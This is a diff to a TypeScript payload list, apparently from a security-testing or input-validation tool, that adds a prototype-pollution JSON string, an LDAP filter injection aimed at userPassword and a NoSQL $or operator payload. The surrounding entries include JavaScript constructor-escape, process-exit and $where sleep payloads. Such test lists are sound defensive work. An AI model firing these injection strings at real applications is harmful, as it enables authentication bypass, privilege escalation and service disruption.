@@ -82,6 +82,7 @@ export const PAYLOADS: readonly Payloads[] = [
       'global.process.exit()',
       '_$$ND_FUNC$$_function(){return 7}()',
       '__proto__[isAdmin]=1',
+      '{"constructor":{"prototype":{"isAdmin":1}}}',
       'constructor.prototype.isAdmin',
       'this.constructor.constructor("return process")()',
       'while(true){}',
@@ -120,7 +121,14 @@ export const PAYLOADS: readonly Payloads[] = [
     category: 'directories and documents',
     language: 'ldap',
     types: ['code_injection', 'sql_injection'],
-    texts: ['*)(uid=*))(|(uid=*', 'admin)(&)', 'x)(|(password=*)', '*)(objectClass=*', 'exam)(!(&(cn=*'],
+    texts: [
+      '*)(uid=*))(|(uid=*',
+      'ann*)((|userPassword=*)',
+      'admin)(&)',
+      'x)(|(password=*)',
+      '*)(objectClass=*',
+      'exam)(!(&(cn=*',
+    ],
   },
   {
     category: 'document stores',
@@ -129,6 +137,7 @@ export const PAYLOADS: readonly Payloads[] = [
     texts: [
       '{"$ne":null}',
       '{"$gt":""}',
+      '{"$or":[{"a":1},{"b":2}]}',
       '{"$where":"sleep(900)"}',
       '[$ne]=1',
       '{"$regex":"^a"}',
